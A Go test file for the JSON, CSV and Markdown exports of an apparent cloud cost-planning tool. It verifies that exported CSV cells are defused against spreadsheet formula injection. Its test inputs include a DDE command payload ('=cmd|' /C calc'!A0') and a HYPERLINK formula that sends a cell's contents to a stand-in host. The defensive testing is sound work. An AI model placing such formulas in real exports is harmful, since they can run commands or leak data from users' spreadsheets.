package page

import (
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	planner "rightsize/estimator/plan"
)

// The JSON and CSV exports list the picks, then every plan, with the
// planner's figures unformatted.
func TestExportRows(t *testing.T) {
	_, in := viewOf(t, "", nil)
	var doc struct {
		Model  string `json:"model"`
		Fits   bool   `json:"fits"`
		Link   string `json:"link_fragment"`
		Offers []struct {
			Pick    string  `json:"pick"`
			OfferID string  `json:"offer_id"`
			Cost    float64 `json:"cost"`
			Unit    string  `json:"cost_unit"`
		} `json:"offers"`
	}
	if err := json.Unmarshal([]byte(ExportJSON(in, "m=x")), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Model != "llama-3.1-8b" || !doc.Fits || doc.Link != "m=x" || len(doc.Offers) != len(in.Plan.Picks)+len(in.Plan.Cands) {
		t.Fatalf("export %q fits %v link %q, %d rows", doc.Model, doc.Fits, doc.Link, len(doc.Offers))
	}
	for i, p := range in.Plan.Picks {
		r := doc.Offers[i]
		if r.Pick != p.Kind.String() || r.OfferID != p.Offer.ID || !near(r.Cost, p.Cost) && r.Cost != round4(p.Cost) || r.Unit != "USD per job" {
			t.Errorf("pick %d: %+v, want %s %s %v", i, r, p.Kind, p.Offer.ID, p.Cost)
		}
	}
	recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(doc.Offers)+1 || recs[0][0] != "pick" || recs[1][1] != doc.Offers[0].OfferID {
		t.Errorf("CSV: %d records, header %v", len(recs), recs[0])
	}
}

// A cell a spreadsheet would run as a formula is written as text.
func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+cmd": "'+cmd", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
		"\r=1": "'\r=1", "\n=HYPERLINK(\"http://x.example\")": "'\n=HYPERLINK(\"http://x.example\")", "aws": "aws", "": ""} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{"-0.5": "-0.5", "1e3": "1e3", "12.50": "12.50", "-Inf": "'-Inf", "+NaN": "'+NaN", "-2+3": "'-2+3", "—": "—"} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportCSVInert: a price sheet's free-text source (and every other
// text an offer carries) reaches the CSV export as text, never as a
// formula, whichever of OWASP's formula characters it starts with.
func TestExportCSVInert(t *testing.T) {
	_, in := viewOf(t, "", nil)
	if len(in.Plan.Cands) == 0 {
		t.Fatal("no plans")
	}
	for _, bad := range []string{"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=HYPERLINK(\"http://x.example/?\"&A1)"} {
		o := *in.Plan.Cands[0].Offer
		o.Source, o.Provider, o.InstanceType, o.Currency, o.AsOf = bad, bad, bad, bad, bad
		in.Plan.Cands[0].Offer = &o
		recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		row := recs[len(in.Plan.Picks)+1]
		for i, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("%q: column %s is %q", bad, recs[0][i], cell)
			}
		}
		if row[13] != "'"+bad {
			t.Errorf("%q: source %q", bad, row[13])
		}
	}
}

// A serving plan's picks are a monthly bill and a p95 time in the
// Markdown export, not a price per 1M tokens; text from a link is escaped.
func TestExportMarkdown(t *testing.T) {
	_, in := viewOf(t, "rps=5", nil)
	if in.Plan.Kind != planner.Serving || len(in.Plan.Picks) == 0 {
		t.Fatalf("plan kind %v, %d picks", in.Plan.Kind, len(in.Plan.Picks))
	}
	md := ExportMarkdown(in)
	if strings.Contains(md, Tr("en", MsgPerMTokens)) || !strings.Contains(md, MDEscape(Tr("en", MsgMonthlyShort))) || !strings.Contains(md, MDEscape(Tr("en", MsgE2EP95))) {
		t.Errorf("serving picks labelled wrongly:\n%s", md)
	}
	if got := MDEscape("x|y <img> ![t](u)\n"); got != `x\|y &lt;img&gt; \!\[t\](u) ` {
		t.Errorf("MDEscape: %q", got)
	}
}
